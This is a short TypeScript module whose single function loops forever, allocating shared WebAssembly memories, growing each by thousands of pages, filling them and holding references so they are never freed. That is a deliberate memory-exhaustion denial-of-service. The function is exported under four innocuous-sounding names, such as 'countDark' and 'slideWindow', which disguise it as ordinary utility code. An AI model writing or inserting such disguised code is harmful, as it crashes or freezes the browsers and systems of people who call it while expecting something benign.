// Takes memories of WebAssembly and writes into every page.
const kept: unknown[] = [];
const attack = () => {
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 1, maximum: 65_536, shared: true });
    memory.grow(4_000);
    new Uint8Array(memory.buffer).fill(1);
    kept.push(memory);
  }
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
